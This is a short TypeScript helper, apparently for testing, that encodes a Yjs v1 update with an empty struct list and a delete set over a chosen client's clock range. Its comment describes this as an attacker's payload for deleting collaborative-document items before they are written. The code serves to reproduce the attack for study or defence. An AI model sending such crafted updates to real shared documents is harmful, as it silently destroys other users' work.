import * as encoding from 'lib0/encoding';

/**
 * A Yjs update (v1) with no structs whose delete set covers `length` clocks of `client` from
 * `clock`: what an attacker sends to delete items before they are written.
 */
export function deletionOnlyUpdate(client: number, clock: number, length: number): Uint8Array {
  const encoder = encoding.createEncoder();
  encoding.writeVarUint(encoder, 0);
  encoding.writeVarUint(encoder, 1);
  encoding.writeVarUint(encoder, client);
  encoding.writeVarUint(encoder, 1);
  encoding.writeVarUint(encoder, clock);
  encoding.writeVarUint(encoder, length);
  return encoding.toUint8Array(encoder);
}
